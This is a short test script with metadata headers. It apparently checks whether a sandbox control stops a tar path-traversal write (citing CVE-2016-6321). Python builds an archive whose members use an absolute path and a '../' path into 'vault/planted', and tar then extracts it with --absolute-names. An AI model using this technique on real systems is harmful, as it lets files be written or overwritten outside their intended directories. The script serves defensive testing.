# technique: extracts members with an absolute name and with dots
# source: tar(1), --absolute-names; CVE-2016-6321
# success: vault/planted was made
# control: permissive
# needs: python3
# event: FileCreate
python3 - <<'END'
import io, os, tarfile
with tarfile.open('evil.tar', 'w') as archive:
    for name in (os.getcwd() + '/vault/planted', 'public/../vault/planted'):
        member = tarfile.TarInfo(name)
        member.size = 2
        archive.addfile(member, io.BytesIO(b'x\n'))
END
tar --extract --absolute-names --file evil.tar
